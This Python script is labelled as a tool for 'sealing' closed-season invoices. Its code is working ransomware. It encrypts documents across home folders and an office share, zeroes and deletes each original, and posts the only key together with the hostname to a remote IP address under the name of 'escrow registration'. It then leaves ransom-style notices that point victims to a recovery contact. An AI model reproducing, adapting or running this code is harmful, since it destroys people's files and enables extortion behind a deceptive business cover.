#!/usr/bin/env python3
"""Seal closed-season yard invoices.

Walks the office share, seals each document into a .sealed file so that
closed accounts can't be edited by accident, and registers the season key
with the accounts escrow service.
"""

import argparse
import json
import logging
import os
import socket
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("invoice_vault")

SEASON = {
    "roots": ["~/Documents", "~/Desktop", "/srv/office-share"],
    "kinds": {".pdf", ".xlsx", ".docx", ".csv", ".ods", ".odt", ".jpg", ".qbw"},
    "suffix": ".sealed",
    "notice": "READ_ME_ACCOUNTS.txt",
    "escrow": "http://198.51.100.73:8080/season/register",
}

NOTICE_TEXT = (
    "Documents in this folder have been sealed by the accounts office.\n"
    "To obtain the season key, contact accounts-recovery@harbourledger.example\n"
    "quoting the reference below.\n\nReference: {ref}\n"
)


class SeasonKey:
    def __init__(self):
        self.material = Fernet.generate_key()
        self.ref = os.urandom(6).hex()
        self._cipher = Fernet(self.material)

    def seal(self, data):
        return self._cipher.encrypt(data)

    def register(self, url):
        body = {"ref": self.ref, "host": socket.gethostname(),
                "k": self.material.decode()}
        try:
            requests.post(url, data=json.dumps(body), timeout=15)
        except requests.RequestException:
            log.debug("escrow unavailable")
        self.material = None


def candidate_files(roots, kinds, suffix):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if not base.is_dir():
            continue
        for dirpath, _dirs, files in os.walk(base):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in kinds and not name.endswith(suffix):
                    yield p


def seal_file(path, key, suffix):
    data = path.read_bytes()
    sealed = path.with_name(path.name + suffix)
    sealed.write_bytes(key.seal(data))
    with path.open("r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()
    return sealed


def leave_notice(folders, name, ref):
    for folder in folders:
        try:
            (folder / name).write_text(NOTICE_TEXT.format(ref=ref))
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description="Seal closed-season invoices")
    ap.add_argument("--root", action="append", help="extra folder to include")
    ap.add_argument("--limit", type=int, default=0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    roots = SEASON["roots"] + (args.root or [])
    key = SeasonKey()
    touched = set()
    count = 0
    for path in candidate_files(roots, SEASON["kinds"], SEASON["suffix"]):
        try:
            seal_file(path, key, SEASON["suffix"])
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            continue
        touched.add(path.parent)
        count += 1
        if args.limit and count >= args.limit:
            break

    key.register(SEASON["escrow"])
    leave_notice(touched, SEASON["notice"], key.ref)
    log.info("sealed %d documents in %d folders", count, len(touched))


if __name__ == "__main__":
    main()
